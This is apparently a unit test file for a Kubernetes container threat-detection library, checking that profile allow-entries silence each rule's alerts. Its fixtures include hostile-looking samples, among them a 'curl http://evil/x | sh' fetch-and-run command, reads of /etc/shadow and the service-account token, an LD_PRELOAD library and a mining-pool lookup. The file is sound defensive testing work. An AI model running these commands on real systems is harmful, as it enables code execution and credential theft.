import { createDetector, loadBuiltinRules, type Alert, type DetectionHost } from "@kinglet/detection";
import {
  CapabilityEvent,
  DnsEvent,
  ExecEvent,
  KernelCallEvent,
  LinkEvent,
  NetworkEvent,
  OpenEvent,
  SyscallEvent,
  type ActivityEvent,
  type ContainerIdentity,
} from "@kinglet/enrichment";
import { noopLogger } from "@kinglet/logger";
import { noopMetrics } from "@kinglet/metrics";
import type { RuleDefinition, RuleEventType } from "@kinglet/policy-engine";
import { parseContainerProfile, unobservedSurfaces } from "@kinglet/profile";
import { describe, expect, it } from "vitest";
import { heldProfile } from "../../../../test/unit/held-profile.ts";
import { allowInProfile, type ProfileDocument } from "./allow-in-profile.ts";

const container = {
  containerId: "ab".repeat(32),
  namespace: "shop",
  podName: "web-1",
  containerName: "web",
  nodeName: "node-1",
} as ContainerIdentity;

const host: DetectionHost = {
  mountPathsOf: () => ["/data"],
  hasContainer: () => true,
  apiServerAddresses: ["10.96.0.1"],
  processEnvironment: () => ({ LD_PRELOAD: "/tmp/evil.so" }),
  commandsOf: () => undefined,
};

const stored: ProfileDocument = {
  metadata: {
    name: "web",
    namespace: "shop",
    annotations: { "kubescape.io/status": "completed", "kubescape.io/completion": "complete" },
  },
  spec: {
    execs: [{ path: "/bin/sh", args: ["/bin/sh", "-c", "date"] }],
    opens: [{ path: "/etc/hosts", flags: ["O_RDONLY"] }],
    syscalls: ["read"],
    capabilities: ["CHOWN"],
    egress: [{ identifier: "a", type: "external", dnsNames: ["api.example.com."], ipAddress: "203.0.113.5" }],
  },
};

async function alertsOf(
  document: ProfileDocument,
  rules: readonly RuleDefinition[],
  event: ActivityEvent,
): Promise<readonly Alert[]> {
  const profile = await heldProfile(parseContainerProfile(document));
  const detector = createDetector({
    rules,
    profiles: { get: () => profile },
    host,
    clusterName: "",
    nodeName: "node-1",
    logger: noopLogger,
    metrics: noopMetrics,
  });
  await detector.prepare();
  expect(detector.invalidRules).toEqual([]);
  return detector.detect(event, container);
}

const origin = { sequence: 1, execId: "e1", pid: 7, uid: 0, binary: "/usr/bin/evil", parentBinary: "/bin/sh" } as const;
const exec = (binary: string, args = "", more: object = {}): ActivityEvent =>
  new ExecEvent({ ...origin, binary, args, cwd: "/", ...more });
const opened = (path: string, ...flags: readonly string[]): ActivityEvent => new OpenEvent({ ...origin, path, flags });
const call = (kind: KernelCallEvent["kind"], init: object = {}): ActivityEvent =>
  new KernelCallEvent({ ...origin, kind, ...init });
const network = (address: string, port: number, protocol: string, direction: "egress" | "ingress" = "egress") =>
  new NetworkEvent({ ...origin, address, port, protocol, direction });
const link = (kind: LinkEvent["kind"]): ActivityEvent =>
  new LinkEvent({ ...origin, kind, oldPath: "/etc/shadow", newPath: "/tmp/x" });

const events: readonly ActivityEvent[] = [
  exec("/usr/bin/curl", "http://x"),
  exec("/usr/bin/curl", '-c "a b" "c d"'),
  exec("/usr/bin/curl", "a\ufffd 'b c"),
  exec("/usr/bin/curl", "a b", { isTruncated: true, flags: "execve truncArgs" }),
  exec("/usr/bin/curl", "a b", { isTruncated: true, flags: "execve errorArgs" }),
  exec("/bin/sh", "-c id"),
  exec("/bin/sh", '-c "curl http://evil/x | sh" "a b"'),
  exec("/bin/sh", "-c curl-evil x", { isTruncated: true, flags: "execve truncArgs" }),
  exec("/bin/sh", `-c 'x ${"y".repeat(20_000)}`),
  exec("/usr/bin/mysql", "--password=hunter2 -x"),
  exec("/data/x"),
  exec("/dev/shm/x"),
  exec("/usr/local/bin/kubectl", "get pods"),
  exec("memfd:x"),
  opened("/etc/shadow", "O_RDONLY"),
  opened("/etc/passwd", "O_WRONLY", "O_CREAT"),
  opened("/etc/noflags"),
  opened("/run/secrets/kubernetes.io/serviceaccount/token", "O_RDONLY"),
  opened("/proc/7/environ", "O_RDONLY"),
  new SyscallEvent({ ...origin, name: "mount" }),
  new CapabilityEvent({ ...origin, capability: "SYS_ADMIN", syscall: "mount" }),
  new DnsEvent({ ...origin, name: "evil.example.org." }),
  new DnsEvent({ ...origin, name: "xmr.pool.minexmr.com." }),
  network("198.51.100.7", 443, "TCP"),
  network("198.51.100.77", 443, ""),
  network("2001:db9::1", -1, "UDP"),
  network("10.96.0.1", 443, "TCP"),
  network("198.51.100.7", 22, "TCP"),
  network("198.51.100.7", 3333, "TCP"),
  network("198.51.100.3", 80, "TCP", "ingress"),
  link("symlink"),
  link("hardlink"),
  call("bpf", { command: 5, syscallName: "bpf" }),
  call("bpf", { command: 5 }),
  call("kmod", { module: "evil", syscallName: "init_module" }),
  call("ptrace", { command: 4, syscallName: "ptrace" }),
  call("unshare", { flagsRaw: 0x1000_0000, syscallName: "unshare" }),
  call("unshare", { flagsRaw: 0x1000_0000, syscallName: "security_create_user_ns" }),
  call("iouring", { opcode: 13, syscallName: "io_uring_enter" }),
];

const custom = (
  id: string,
  eventType: RuleEventType,
  expression: string,
  more: Partial<RuleDefinition> = {},
): RuleDefinition => ({
  enabled: true,
  id,
  name: id,
  description: "",
  expressions: { message: "event.comm", uniqueId: "event.comm", ruleExpression: [{ eventType, expression }] },
  profileDependency: 1,
  severity: 5,
  supportPolicy: false,
  isTriggerAlert: false,
  mitreTactic: "",
  mitreTechnique: "",
  tags: [],
  ...more,
});

/** Adds what each alert names, and says what became of it: by rule, with the surface. */
async function roundTrip(rules: readonly RuleDefinition[], event: ActivityEvent): Promise<readonly string[]> {
  const found: string[] = [];
  for (const { ruleId, allowedBy } of await alertsOf(stored, rules, event)) {
    if (allowedBy === undefined) {
      found.push(`${ruleId} nothing`);
      continue;
    }
    const target = { containerName: "web", namespace: "shop" };
    const after = await alertsOf(allowInProfile(stored, allowedBy, target), rules, event);
    const isSilent = !after.some((alert) => alert.ruleId === ruleId);
    found.push(`${ruleId} ${allowedBy.path}${isSilent ? "" : " DOES NOT SILENCE IT"}`);
  }
  return found;
}

describe("allowInProfile", () => {
  it("silences every alert of the built-in rules with the entry that the alert names", async () => {
    const rules = (await loadBuiltinRules()).map((rule) => Object.assign({}, rule, { enabled: true }));
    const runnable = rules.filter(({ expressions }) =>
      expressions.ruleExpression.some(({ eventType }) => eventType !== "randomx"),
    );
    const told = new Set<string>();
    for (const event of events) for (const line of await roundTrip(runnable, event)) told.add(line);
    expect([...told].filter((line) => line.includes("NOT"))).toEqual([]);
    // Rules that are about what no profile can make right.
    expect([...told].filter((line) => line.endsWith("nothing")).toSorted()).toMatchInlineSnapshot(`
      [
        "R1000 nothing",
        "R1002 nothing",
        "R1005 nothing",
        "R1008 nothing",
        "R1015 nothing",
      ]
    `);
    expect([...told].filter((line) => !line.endsWith("nothing")).toSorted()).toMatchInlineSnapshot(`
      [
        "R0001 spec.execs",
        "R0002 spec.opens",
        "R0003 spec.syscalls",
        "R0004 spec.capabilities",
        "R0005 spec.egress",
        "R0006 spec.opens",
        "R0007 spec.egress",
        "R0007 spec.execs",
        "R0008 spec.opens",
        "R0009 spec.syscalls",
        "R0010 spec.opens",
        "R0011 spec.egress",
        "R0040 spec.execs",
        "R1004 spec.execs",
        "R1006 spec.syscalls",
        "R1009 spec.egress",
        "R1010 spec.rulePolicies",
        "R1011 spec.rulePolicies",
        "R1012 spec.rulePolicies",
        "R1030 spec.rulePolicies",
      ]
    `);
  });

  it("is offered for a rule of one's own only where the rule asks about what the entry says", async () => {
    const id = "event.containerId";
    const cases: readonly (readonly [RuleEventType, string, ActivityEvent, string])[] = [
      ["exec", "event.exepath.endsWith('/nc')", exec("/usr/bin/nc"), "nothing"],
      ["open", "'O_WRONLY' in event.flags", opened("/etc/passwd", "O_WRONLY"), "nothing"],
      ["symlink", `!cp.was_path_opened(${id}, event.oldPath)`, link("symlink"), "spec.opens"],
      ["hardlink", `!cp.was_path_opened(${id}, event.newPath)`, link("hardlink"), "spec.opens"],
      ["exec", `!cp.was_path_opened(${id}, event.exepath)`, exec("/bin/tg", "-c q"), "spec.opens"],
      ["all", `!cp.was_executed(${id}, event.exepath)`, opened("/etc/passwd", "O_RDONLY"), "nothing"],
      ["open", `!cp.was_path_opened_with_flags(${id}, event.path, event.flags)`, opened("/e", "O_RDWR"), "spec.opens"],
      ["open", `!cp.was_path_opened_with_prefix(${id}, '/var/')`, opened("/var/x"), "spec.opens"],
      ["open", `!cp.was_path_opened_with_suffix(${id}, '.so')`, opened("/var/x"), "nothing"],
      ["capabilities", `!cp.was_syscall_used(${id}, event.syscallName)`, events[20]!, "spec.syscalls"],
      ["ptrace", `!cp.was_syscall_used(${id}, 'ptrace')`, call("ptrace", { command: 4 }), "spec.syscalls"],
      ["network", `!cp.was_address_in_ingress(${id}, event.dstAddr)`, network("192.0.2.1", 80, "TCP"), "nothing"],
      [
        "network",
        `!cp.was_address_port_protocol_in_egress(${id}, event.dstAddr, event.dstPort, event.proto)`,
        network("192.0.2.1", 80, "TCP"),
        "spec.egress",
      ],
      ["network", `!cp.was_address_in_egress(${id}, event.dstAddr)`, network("192.0.2.1", 80, ""), "spec.egress"],
      [
        "network",
        `!cp.was_address_port_protocol_in_egress(${id}, event.dstAddr, event.dstPort, event.proto)`,
        network("192.0.2.1", 80, ""),
        "nothing",
      ],
    ];
    for (const [eventType, expression, event, found] of cases) {
      expect(await roundTrip([custom("T1", eventType, expression)], event), expression).toEqual([`T1 ${found}`]);
    }
    const none = custom("T1", "exec", `!cp.was_executed(${id}, event.exepath)`, { profileDependency: 2 });
    expect(await roundTrip([none], exec("/bin/x"))).toEqual(["T1 nothing"]);
  });

  it("keeps in an authored profile what nobody looked at, and no other annotation", () => {
    const annotations = {
      ...stored.metadata.annotations,
      "kinglet.dev/observed-surfaces": "execs",
      "kubescape.io/sync-checksum": "1",
    };
    const learned = { ...stored, metadata: { ...stored.metadata, annotations } };
    const target = { containerName: "web", namespace: "shop", as: "hand" };
    const authored = allowInProfile(learned, { path: "spec.syscalls", entry: "mount" }, target);
    expect(authored.metadata).toEqual({
      name: "hand-web",
      namespace: "shop",
      annotations: { "kinglet.dev/observed-surfaces": "execs" },
    });
    expect(unobservedSurfaces(parseContainerProfile(authored))).toContain("egressAddresses");
    expect(allowInProfile(stored, { path: "spec.syscalls", entry: "mount" }, target).metadata).toEqual({
      name: "hand-web",
      namespace: "shop",
    });
  });
});
